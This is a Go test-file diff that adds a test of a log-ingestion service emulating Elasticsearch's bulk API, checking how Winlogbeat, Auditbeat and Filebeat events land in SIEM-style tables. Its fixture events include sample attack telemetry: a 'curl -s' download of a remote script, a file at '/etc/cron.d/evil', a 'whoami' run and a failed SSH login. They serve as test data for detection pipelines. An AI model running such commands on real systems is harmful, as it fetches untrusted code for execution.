@@ -4,10 +4,12 @@ import (
 	"bytes"
 	"compress/gzip"
 	"context"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"io"
 	"net/http"
+	"strings"
 	"testing"
 	"time"
 
@@ -152,4 +154,122 @@ func TestSplunkHEC(t *testing.T) {
 func jsonString(s string) string {
 	b, _ := json.Marshal(s)
 	return string(b)
+}
+
+func (s *server) req(method, path string, body []byte, hdr ...string) (int, http.Header, []byte) {
+	s.t.Helper()
+	req, err := http.NewRequest(method, s.base+path, bytes.NewReader(body))
+	require.NoError(s.t, err)
+	for i := 0; i+1 < len(hdr); i += 2 {
+		req.Header.Set(hdr[i], hdr[i+1])
+	}
+	resp, err := http.DefaultClient.Do(req)
+	require.NoError(s.t, err)
+	defer resp.Body.Close()
+	raw, err := io.ReadAll(resp.Body)
+	require.NoError(s.t, err)
+	return resp.StatusCode, resp.Header, raw
+}
+
+// TestElasticBulk runs the start-up probes Beats and Logstash make, then bulk-indexes documents as Winlogbeat,
+// Auditbeat, Filebeat and Logstash write them, and checks where each lands and how each item is answered.
+func TestElasticBulk(t *testing.T) {
+	s := start(t, nil)
+	tok := s.token("ingest")
+	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("elastic:"+tok))
+
+	code, _, _ := s.req("GET", "/", nil)
+	require.Equal(t, 401, code)
+	code, hdr, raw := s.req("GET", "/", nil, "Authorization", basic)
+	require.Equal(t, 200, code, string(raw))
+	require.Equal(t, "Elasticsearch", hdr.Get("X-Elastic-Product"))
+	var info struct {
+		Version struct{ Number string } `json:"version"`
+	}
+	require.NoError(t, json.Unmarshal(raw, &info))
+	require.Equal(t, "8.19.0", info.Version.Number)
+	code, _, raw = s.req("GET", "/_license", nil, "Authorization", basic)
+	require.Equal(t, 200, code)
+	require.Contains(t, string(raw), `"type":"basic"`)
+
+	// Template and ILM set-up as Filebeat does it: absent, stored, then present.
+	code, _, _ = s.req("HEAD", "/_index_template/filebeat-8.17.0", nil, "Authorization", basic)
+	require.Equal(t, 404, code)
+	code, _, raw = s.req("PUT", "/_index_template/filebeat-8.17.0", []byte(`{"index_patterns":["filebeat-8.17.0"],"data_stream":{}}`), "Authorization", basic)
+	require.Equal(t, 200, code, string(raw))
+	code, _, _ = s.req("HEAD", "/_index_template/filebeat-8.17.0", nil, "Authorization", basic)
+	require.Equal(t, 200, code)
+	code, _, _ = s.req("GET", "/_ilm/policy/filebeat", nil, "Authorization", "ApiKey "+base64.StdEncoding.EncodeToString([]byte("id1:"+tok)))
+	require.Equal(t, 404, code)
+	code, _, _ = s.req("PUT", "/_ilm/policy/filebeat", []byte(`{"policy":{"phases":{"hot":{"actions":{}}}}}`), "Authorization", "Bearer "+tok)
+	require.Equal(t, 200, code)
+	code, _, raw = s.req("GET", "/_ilm/policy/filebeat", nil, "Authorization", "Bearer "+tok)
+	require.Equal(t, 200, code)
+	require.Contains(t, string(raw), `"phases"`)
+
+	lines := []string{
+		`{"create":{"_index":"winlogbeat-8.17.0"}}`,
+		`{"@timestamp":"2024-05-01T10:00:00.000Z","event":{"code":"4624","provider":"Microsoft-Windows-Security-Auditing","action":"logged-in","module":"security"},"winlog":{"channel":"Security","event_id":"4624","provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"dc1.corp.local","record_id":"12345","event_data":{"TargetUserName":"alice","TargetDomainName":"CORP","LogonType":"3","IpAddress":"10.0.0.5","TargetLogonId":"0x3e7"},"process":{"pid":652,"thread":{"id":700}},"keywords":["Audit Success"],"api":"wineventlog"},"host":{"name":"dc1"},"message":"An account was successfully logged on.","agent":{"type":"winlogbeat","version":"8.17.0"}}`,
+		`{"create":{"_index":"winlogbeat-8.17.0","_id":"sysmon-1"}}`,
+		`{"@timestamp":"2024-05-01T10:00:01.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":1,"provider_name":"Microsoft-Windows-Sysmon","computer_name":"ws1.corp.local","event_data":{"UtcTime":"2024-05-01 10:00:01.000","ProcessGuid":"{6b6a1d1a-0000-0000-0000-000000000001}","ProcessId":"4321","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c whoami","User":"CORP\\alice","ParentImage":"C:\\Windows\\explorer.exe","ParentProcessId":"1000"}}}`,
+		`{"index":{"_index":"auditbeat-8.17.0"}}`,
+		`{"@timestamp":"2024-05-01T10:00:02.000Z","event":{"module":"auditd","category":["process"],"type":["start"],"action":"executed","outcome":"success"},"process":{"pid":2001,"parent":{"pid":1999},"executable":"/usr/bin/curl","name":"curl","args":["curl","-s","http://198.51.100.9/x.sh"],"working_directory":"/tmp"},"user":{"id":"1000","name":"bob"},"host":{"name":"web-3"},"auditd":{"sequence":123,"result":"success"}}`,
+		`{"create":{"_index":"auditbeat-8.17.0"}}`,
+		`{"@timestamp":"2024-05-01T10:00:03.000Z","event":{"module":"file_integrity","action":["created"],"category":["file"],"type":["creation"]},"file":{"path":"/etc/cron.d/evil","size":42,"hash":{"sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}},"host":{"name":"web-3"}}`,
+		`{"create":{"_index":"filebeat-8.17.0"}}`,
+		`{"@timestamp":"2024-05-01T10:00:04.000Z","message":"May  1 10:00:04 web-3 sshd[77]: Failed password for invalid user admin from 203.0.113.50 port 41234 ssh2","event":{"module":"system","dataset":"system.auth"},"log":{"file":{"path":"/var/log/auth.log"}},"host":{"name":"web-3"}}`,
+		`{"delete":{"_index":"filebeat-8.17.0","_id":"x"}}`,
+		`{"update":{"_index":"filebeat-8.17.0","_id":"y"}}`,
+		`{"doc":{"a":1}}`,
+		`{"index":{}}`,
+		`{"@timestamp":"2024-05-01T10:00:05.000Z","message":"GET / 200","status":200,"host":{"name":"lb-1"}}`,
+		`{"index":{"_index":"CommonSecurityLog"}}`,
+		`{"TimeGenerated":"2024-05-01T10:00:06Z","DeviceVendor":"Acme","SourceIP":"192.0.2.1"}`,
+		`{"create":{"_index":"filebeat-8.17.0"}}`,
+		`{"@timestamp":"2024-05-01T10:00:07.000Z", broken`,
+		`{"create":{"_index":"filebeat-8.17.0"}}`,
+		`{"@timestamp":"2024-05-01T10:00:08.000Z","message":"May  1 10:00:08 web-3 CRON[1]: (root) CMD (true)","event":{"dataset":"system.syslog"}}`,
+	}
+	code, _, raw = s.req("POST", "/nginx-2024.05.01/_bulk", gz(t, []byte(strings.Join(lines, "\n")+"\n")), "Authorization", basic, "Content-Encoding", "gzip", "Content-Type", "application/x-ndjson")
+	require.Equal(t, 200, code, string(raw))
+	var res struct {
+		Errors bool                                `json:"errors"`
+		Items  []map[string]map[string]interface{} `json:"items"`
+	}
+	require.NoError(t, json.Unmarshal(raw, &res))
+	require.True(t, res.Errors)
+	var statuses []string
+	for _, it := range res.Items {
+		for op, body := range it {
+			statuses = append(statuses, fmt.Sprintf("%s %v %v", op, body["_index"], body["status"]))
+		}
+	}
+	require.Equal(t, []string{
+		"create winlogbeat-8.17.0 201", "create winlogbeat-8.17.0 201", "index auditbeat-8.17.0 201",
+		"create auditbeat-8.17.0 201", "create filebeat-8.17.0 201", "delete filebeat-8.17.0 400",
+		"update filebeat-8.17.0 400", "index nginx-2024.05.01 201", "index CommonSecurityLog 201",
+		"create filebeat-8.17.0 400", "create filebeat-8.17.0 201",
+	}, statuses)
+	require.Equal(t, "sysmon-1", res.Items[1]["create"]["_id"])
+
+	s.waitWritten()
+	require.Equal(t, [][]any{{int64(4624), "alice", "dc1.corp.local"}}, s.rows(`SELECT EventID, TargetUserName, Computer FROM SecurityEvent`))
+	require.Equal(t, [][]any{
+		{"ws1.corp.local", "cmd.exe", "cmd.exe /c whoami", int64(4321)},
+		{"web-3", "curl", "curl -s http://198.51.100.9/x.sh", int64(2001)},
+	}, s.rows(`SELECT DeviceName, FileName, ProcessCommandLine, ProcessId FROM DeviceProcessEvents ORDER BY Timestamp`))
+	require.Equal(t, [][]any{{"web-3", "FileCreated", "evil", "/etc/cron.d/evil", int64(42)}},
+		s.rows(`SELECT DeviceName, ActionType, FileName, FolderPath, FileSize FROM DeviceFileEvents`))
+	require.Equal(t, [][]any{{"admin", "LogonFailed", "203.0.113.50", "UnknownUser"}},
+		s.rows(`SELECT AccountName, ActionType, RemoteIP, FailureReason FROM DeviceLogonEvents`))
+	require.Equal(t, [][]any{{"web-3", "sshd"}, {"web-3", "CRON"}}, s.rows(`SELECT Computer, ProcessName FROM Syslog ORDER BY SyslogMessage DESC`))
+	require.Equal(t, [][]any{{"GET / 200", int64(200)}}, s.rows(`SELECT message, status FROM nginx_CL`))
+	require.Equal(t, [][]any{{"Acme", "192.0.2.1"}}, s.rows(`SELECT DeviceVendor, SourceIP FROM CommonSecurityLog`))
+	rejects := s.rows(`SELECT Source, Line, RawData FROM VigilIngestErrors`)
+	require.Equal(t, [][]any{{"elastic", int64(19), `{"@timestamp":"2024-05-01T10:00:07.000Z", broken`}}, rejects)
+
+	code, _, raw = s.req("POST", "/_bulk", []byte("\n"), "Authorization", basic)
+	require.Equal(t, 400, code, string(raw))
+	code, _, _ = s.req("POST", "/_bulk", []byte(`{"index":{"_index":"x"}}`), "Authorization", "Bearer "+s.token("reader"))
+	require.Equal(t, 403, code)
 }
